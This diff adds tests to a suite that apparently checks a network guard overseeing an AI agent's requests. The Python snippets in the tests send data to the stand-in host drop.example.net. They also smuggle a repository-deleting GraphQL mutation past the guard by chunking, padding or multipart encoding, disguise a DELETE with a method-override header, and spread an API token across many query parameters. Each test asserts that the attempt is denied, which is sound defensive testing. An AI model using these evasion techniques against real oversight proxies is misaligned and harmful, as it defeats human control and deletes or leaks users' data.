@@ -122,4 +122,103 @@ describe('threats over the network', () => {
       .findLast((r) => JSON.stringify(r.receipt.body.action ?? '').includes('drop.example.net'));
     assert.match(JSON.stringify(why?.receipt.body.decision), /untrusted|docs\.example\.org|instruct/);
   });
+
+  /** The test's own program of the agent; the system's Python, which no wrapper starts. */
+  const python = async (name: string, code: string) => {
+    s.file(name, `import socket, ssl, time, os\n${code}\n`);
+    return await s.bash(`/usr/bin/python3 ${name}`, env);
+  };
+
+  test('T2: bytes that nobody understands do not leave unasked on the port of SSH either', async () => {
+    const done = await python(
+      'port22.py',
+      `c = socket.create_connection(('drop.example.net', 22), timeout=8)
+time.sleep(0.4)
+c.send(b'notes of mine ' * 20)
+print('answer', c.recv(10))`,
+    );
+    assert.doesNotMatch(done.stdout, /answer b'[^']/);
+    const asked = s
+      .receipts()
+      .findLast(
+        ({ receipt: { body } }) =>
+          /:22"/.test(JSON.stringify(body.action ?? '')) && body.decision !== undefined,
+      );
+    assert.match(JSON.stringify(asked?.receipt.body.decision), /network\.opaque-stream/);
+  });
+
+  const MUTATION = 'mutation{deleteRepository(id:1){clientId}}';
+  for (const [name, rule, send] of [
+    [
+      'after a pause',
+      /cloud\.delete-by-request/,
+      `b = b'"query":"${MUTATION}"}'
+c.send(head + b'transfer-encoding: chunked\\r\\n\\r\\n1\\r\\n{\\r\\n')
+time.sleep(0.7)
+c.send(b'%x\\r\\n' % len(b) + b + b'\\r\\n0\\r\\n\\r\\n')`,
+    ],
+    [
+      'behind megabytes of something else',
+      /network\.unread-call/,
+      `b = b'{"variables":{"x":"' + b'word ' * 1000000 + b'"},"query":"${MUTATION}"}'
+c.send(head + b'content-length: %d\\r\\n\\r\\n' % len(b) + b)`,
+    ],
+    [
+      'in a form that is not GraphQL’s usual one',
+      /network\.unread-call|cloud\.delete-by-request/,
+      `b = b'--x\\r\\nContent-Disposition: form-data; name="operations"\\r\\n\\r\\n{"query":"${MUTATION}"}\\r\\n--x--\\r\\n'
+c.send(head.replace(b'application/json', b'multipart/form-data; boundary=x') + b'content-length: %d\\r\\n\\r\\n' % len(b) + b)`,
+    ],
+  ] as const)
+    test(`T1: what deletes is not sent unasked when it is said ${name}`, async () => {
+      const before = github().seen().length;
+      const done = await python(
+        'mutation.py',
+        `c = ssl.create_default_context().wrap_socket(socket.create_connection(('api.github.com', 443)), server_hostname='api.github.com')
+head = b'POST /graphql HTTP/1.1\\r\\nHost: api.github.com\\r\\nContent-Type: application/json\\r\\nAuthorization: Bearer ' + os.environ['GITHUB_TOKEN'].encode() + b'\\r\\n'
+${send}
+c.settimeout(15)
+print(c.recv(200))`,
+      );
+      assert.equal(github().seen().length, before, done.stdout);
+      const asked = s
+        .receipts()
+        .findLast((r) => JSON.stringify(r.receipt.body.action ?? '').includes('/graphql'));
+      assert.match(JSON.stringify(asked?.receipt.body.decision), rule);
+    });
+
+  test('T1: a header that makes less of a method does not make less of the request', async () => {
+    const before = github().seen().length;
+    await python(
+      'method.py',
+      `c = ssl.create_default_context().wrap_socket(socket.create_connection(('api.github.com', 443)), server_hostname='api.github.com')
+c.send(b'DELETE /repos/me/site HTTP/1.1\\r\\nHost: api.github.com\\r\\nX-HTTP-Method-Override: GET\\r\\nAuthorization: Bearer ' + os.environ['GITHUB_TOKEN'].encode() + b'\\r\\n\\r\\n')
+c.settimeout(8)
+print(c.recv(200))`,
+    );
+    assert.equal(github().seen().length, before);
+  });
+
+  test('T9: a request that cannot be judged for its many parts is denied, and the proxy goes on for the others', async () => {
+    const done = await python(
+      'parts.py',
+      `def opened():
+  return ssl.create_default_context().wrap_socket(socket.create_connection(('api.github.com', 443)), server_hostname='api.github.com')
+def get(c, path):
+  c.settimeout(10)
+  c.send(b'GET ' + path + b' HTTP/1.1\\r\\nHost: api.github.com\\r\\n\\r\\n')
+  print(c.recv(2000).split(b'\\r\\n')[0])
+token = os.environ['GITHUB_TOKEN'].encode()
+one = opened()
+get(one, b'/user')
+get(opened(), b'/?' + b'&'.join(b'k%d=%s' % (i, token) for i in range(300)))
+get(opened(), b'/?' + b'n' * 6000 + b'=' + token)
+get(one, b'/user')`,
+    );
+    const lines = done.stdout.trim().split('\n');
+    assert.match(lines[0] ?? '', /200/, done.stderr);
+    assert.match(lines[1] ?? '', /403/);
+    assert.match(lines[2] ?? '', /403/);
+    assert.match(lines[3] ?? '', /200/, 'on the connection from before');
+  });
 });
